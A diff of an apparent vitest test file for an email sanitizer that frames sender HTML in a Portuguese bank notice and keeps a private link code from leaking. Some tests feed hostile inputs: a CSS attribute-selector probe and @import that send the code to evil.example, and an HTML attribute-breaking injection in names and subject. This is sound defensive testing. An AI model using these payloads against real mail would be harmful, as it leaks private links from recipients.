@@ -1,12 +1,13 @@
 import { Parser } from 'htmlparser2'
 import { describe, expect, test } from 'vitest'
-import { encloseContent } from '../../../../src/channels/email/message/enclose.js'
+import { encloseContent, encloseNotice } from '../../../../src/channels/email/message/enclose.js'
 import { readSenderHtml } from '../../../../src/channels/email/message/sender-html.js'
 import fc from '../../../support/generated.js'
+import { frameWith, IDENTITY } from '../frames.js'
 
 const CODE = 'AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq'
-const footer = { link: `https://n.example/n/${CODE}`, image: `https://n.example/o/${CODE}.gif` }
-const enclose = (content: string): string => encloseContent(content, footer).html
+const frame = frameWith(CODE, IDENTITY)
+const enclose = (content: string): string => encloseContent(content, frame).html
 
 interface Seen {
   elements: { name: string; attributes: Record<string, string> }[]
@@ -24,15 +25,17 @@ function see(html: string): Seen {
   return seen
 }
 
-/** The code is in the two attributes that we wrote, and nowhere else. */
+/** The code is in the button, in the address below it and in the image, as we wrote them, and nowhere else. */
 function expectApart(html: string): void {
   const { elements, text } = see(html)
   const held = elements.flatMap(({ name, attributes }) =>
     Object.entries(attributes).flatMap(([attribute, value]) => (value.includes(CODE) ? [`${name} ${attribute} ${value}`] : [])),
   )
-  expect(held).toEqual([`a href ${footer.link}`, `img src ${footer.image}`])
-  expect(text).not.toContain(CODE)
-  expect(text).toMatch(/Abra a notificação no navegador\.\s*$/)
+  expect(held).toEqual([`a href ${frame.link}`, `a href ${frame.link}`, `img src ${frame.image}`])
+  expect(text.split(CODE)).toHaveLength(2)
+  expect(text).toMatch(
+    /Abra a notificação no navegador [^<]*\s+Abrir a notificação\s+Se o botão não abrir, copie este endereço no navegador:\s+https:\S+\s+Banco Aurora\s/,
+  )
 }
 
 describe('what a sender writes around our link does not get it', () => {
@@ -84,7 +87,7 @@ describe('what a sender writes around our link does not get it', () => {
       letter => `a[href^="https://n.example/n/${letter}"]{background:url(https://evil.example/${letter})}`,
     )
     const html = enclose(`<style>@import "https://evil.example/x.css";${probes.join('')} p{color:red}</style><p>Oi</p>`)
-    expect(html).toContain('<style>p{color:red}</style>')
+    expect(html).toContain('<style>.nt-content p{color:red}</style>')
     expect(html).not.toContain('evil.example')
   })
 
@@ -143,9 +146,8 @@ describe('an honest message stays as it was', () => {
 <body bgcolor="#eeeeee" style="margin:0"><table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>
 <td><img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table><ul><li>um<li>dois</ul><p style="color:red">Fim</body></html>`
     const html = enclose(content)
-    expect(html).toContain(
-      '<head><meta charset="utf-8"><style>.b{color:#222}</style></head><body bgcolor="#eeeeee" style="margin:0">',
-    )
+    expect(html).toContain('<style>.nt-content .b{color:#222}</style>\n</head>')
+    expect(html).toContain('<div class="nt-content" tabindex="0"><div style="background-color:#eeeeee;margin:0">')
     expect(html).toContain(
       '<table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>',
     )
@@ -154,19 +156,133 @@ describe('an honest message stays as it was', () => {
     expectApart(html)
   })
 
-  test('its text alone ends with the link, in a line of its own', () => {
-    const { text } = encloseContent('<p>Olá, <b>Maria</b>!</p><p>https://evil.example/?x=', footer)
-    expect(text).toMatch(/^Olá, Maria!\n\nhttps:\/\/evil\.example\/\?x=\n\nNão consegue ler esta mensagem\?.*:\nhttps:.*\n$/)
-    expect(text.trimEnd().split('\n').at(-1)).toBe(footer.link)
+  test('in its text alone the link has a line of its own, between blank ones, and the sender follows', () => {
+    const { text } = encloseContent('<p>Olá, <b>Maria</b>!</p><p>https://evil.example/?x=', frame)
+    expect(text).toMatch(
+      /^Olá, Maria!\n\nhttps:\/\/evil\.example\/\?x=\n\n-+\nAbra a notificação no navegador .*\.\n\nhttps:.*\n\n-+\n/,
+    )
+    expect(text.split('\n\n')).toContain(frame.link)
+    expect(text).toMatch(
+      /-\nBanco Aurora\nAurora Cobranças e Serviços S\.A\.\nCNPJ: 11\.222\.333\/0001-81\nTelefone: 0800 123 4567\nSite: https:\/\/www\.aurora\.com\.br\n/,
+    )
     // A long content is cut in the text, the link is not.
-    expect(encloseContent('<p>palavra</p>'.repeat(20_000), footer).text.trimEnd().endsWith(footer.link)).toBe(true)
+    expect(encloseContent('<p>palavra</p>'.repeat(20_000), frame).text).toContain(`\n\n${frame.link}\n\n`)
   })
 
   test('a stray end outside a table does not end the table', () => {
-    expect(enclose('<div><table><tr><td>a</div>b</td></tr></table>c</div>')).toContain(
-      '<div><table><tr><td>ab</td></tr></table>c</div>',
+    expect(enclose('<div><table cellpadding="0"><tr><td>a</div>b</td></tr></table>c</div>')).toContain(
+      '<div><div class="nt-wide" tabindex="0"><table cellpadding="0"><tr><td>ab</td></tr></table></div>c</div>',
     )
   })
+
+  test.each([
+    ['a table that says nothing', '<table>', '<table cellpadding="5">'],
+    ['a table with lines', '<table border="1">', '<table border="1" cellpadding="5" rules="all">'],
+    ['a table with lines and room', '<table border=1 cellpadding=8>', '<table border="1" cellpadding="8" rules="all">'],
+    ['a table with lines kept apart', '<table border="1" cellspacing="3">', '<table border="1" cellspacing="3" cellpadding="5">'],
+    ['a layout without room', '<table cellspacing="0" cellpadding="0">', '<table cellspacing="0" cellpadding="0">'],
+    ['a layout without lines', '<table border="0">', '<table border="0">'],
+    ['a layout by its role', '<table role="presentation">', '<table role="presentation">'],
+  ])('%s has readable cells, as far as its sender leaves them open', (_, table, written) => {
+    const { body } = readSenderHtml(`${table}<tr><td>x</td></tr></table>`)
+    expect(body.replace(' nt-lines', '')).toBe(`<div class="nt-wide" tabindex="0">${written}<tr><td>x</td></tr></table></div>`)
+    expect(body.includes('nt-lines')).toBe(table.includes('border=1') || table.includes('border="1"'))
+  })
+
+  test('each outer table scrolls in a box of its own; one beside the text stays there', () => {
+    const { body } = readSenderHtml(
+      '<table border="0"><tr><td><table border="0"><tr><td>a</table></table><table border="0"><tr><td>b',
+    )
+    expect(body.replaceAll(/<\/?t[rd]>/g, '')).toBe(
+      '<div class="nt-wide" tabindex="0"><table border="0"><table border="0">a</table></table></div><div class="nt-wide" tabindex="0"><table border="0">b</table></div>',
+    )
+    for (const beside of ['align="left"', 'style="float:right"', 'style="display: inline-table"'])
+      expect(readSenderHtml(`<table border="0" ${beside}><tr><td>a</table>`).body).not.toContain('nt-wide')
+  })
+
+  test('an amount stays on one line', () => {
+    expect(enclose('<p title="R$ 1">R$ 1.250,00 em R$ ou US$ 3</p>')).toContain(
+      '<p title="R$ 1">R$\u00a01.250,00 em R$ ou US$ 3</p>',
+    )
+  })
+})
+
+describe('the frame around the content', () => {
+  const { html } = encloseContent('<p>Seu contrato <b>nº 4.217</b> vence. Veja https://aurora.com.br/x</p>', frame)
+
+  test('says in Portuguese who writes, with the colour, the name and the identity of the account', () => {
+    const { elements, text } = see(html)
+    const attributesOf = (name: string) => elements.filter(element => element.name === name).map(({ attributes }) => attributes)
+    expect(attributesOf('html')).toEqual([{ lang: 'pt-BR' }])
+    expect(attributesOf('meta')).toContainEqual({ name: 'viewport', content: 'width=device-width, initial-scale=1' })
+    expect(attributesOf('td').filter(({ bgcolor }) => bgcolor === '#1f3f8f').length).toBeGreaterThanOrEqual(2)
+    for (const line of ['Aurora Cobranças e Serviços S.A.', 'CNPJ: 11.222.333/0001-81', 'Telefone: 0800 123 4567'])
+      expect(text).toContain(line)
+    expect(attributesOf('a').map(({ href }) => href)).toEqual([
+      frame.link,
+      frame.link,
+      'tel:08001234567',
+      'https://www.aurora.com.br',
+      'mailto:privacidade@aurora.com.br',
+    ])
+    expect(html).toContain('<title>Aviso de vencimento</title>')
+  })
+
+  test('begins with a preview that the message itself does not show, without addresses', () => {
+    expect(html).toMatch(/<body[^>]*>\s*<div style="display:none[^"]*">Seu contrato nº 4\.217 vence\. Veja<\/div>/)
+    expect(encloseContent(`<p>${'palavra '.repeat(100)}</p>`, frame).html).toMatch(
+      /<div style="display:none[^"]*">[^<]{100,140}<\/div>/,
+    )
+  })
+
+  test('has a button that needs no style sheet, for Outlook too', () => {
+    expect(html).toMatch(
+      /<td align="center" bgcolor="#1f3f8f" style="[^"]*mso-padding-alt:[^"]+"><a href="[^"]+" style="display:inline-block;padding:[^"]+color:#ffffff[^"]*">Abrir a notificação<\/a>/,
+    )
+    expect(html).toMatch(/<table class="nt-card" role="presentation" width="600"[^>]*max-width:600px/)
+  })
+
+  test('shows the logo in its size, with a text for those who do not see it; or the first letter', () => {
+    const logo = { url: 'https://n.test/r/logo/ab', width: 110, height: 44 }
+    const { elements } = see(encloseContent('<p>x', { ...frame, sender: { ...frame.sender, logo } }).html)
+    const [image] = elements.filter(({ name }) => name === 'img')
+    expect(image!.attributes).toMatchObject({ src: logo.url, width: '110', height: '44', alt: 'Logotipo de Banco Aurora' })
+    expect(html).toMatch(/width="44" height="44"[^>]*>B<\/td>/)
+  })
+
+  test('names, subject and identity are text', () => {
+    const evil = '"><img src=https://evil.test/>'
+    const sender = { ...frame.sender, name: evil, details: [{ label: evil, value: evil, href: evil }] }
+    for (const make of [encloseNotice, (hostile: typeof frame) => encloseContent('<p>x', hostile)]) {
+      const { elements } = see(make({ ...frame, sender, subject: evil, recipientName: evil }).html)
+      expect(elements.filter(({ name }) => name === 'img').map(({ attributes }) => attributes.src)).toEqual([frame.image])
+    }
+  })
+
+  test('rules of the sender’s style sheet stay within the content', () => {
+    const styled = enclose(
+      '<style>a,td{display:none} body>p{color:red} html{margin:0} ~ table{display:none} html ~ p,html + p{display:none}</style><p>Oi',
+    )
+    expect(styled).toContain(
+      '<style>.nt-content a,.nt-content td{display:none}.nt-content>div>p{color:red}.nt-content{margin:0}</style>',
+    )
+  })
+
+  test('a subject of megabytes does not make the message longer', () => {
+    expect(encloseContent('<p>x', { ...frame, subject: 'x'.repeat(5_000_000) }).html.length).toBeLessThan(20_000)
+  })
+})
+
+test('instead of a protected content the message says who writes, why it is protected and where it is', () => {
+  const { html, text } = encloseNotice(frame)
+  for (const shown of [see(html).text, text]) {
+    expect(shown).toMatch(/Olá, Maria da Silva\.\s+Há uma notificação de Banco Aurora para você, protegida por uma pergunta\./)
+    expect(shown).toMatch(/Assunto: Aviso de vencimento\s/)
+    expect(shown).toMatch(/Abra a notificação e responda à pergunta/)
+    expect(shown).toContain('CNPJ: 11.222.333/0001-81')
+  }
+  expect(text.split('\n\n')).toContain(frame.link)
+  expect(html).toContain(`<a href="${frame.link}" style="display:inline-block`)
 })
 
 test('a megabyte of the worst content is read in one pass', () => {
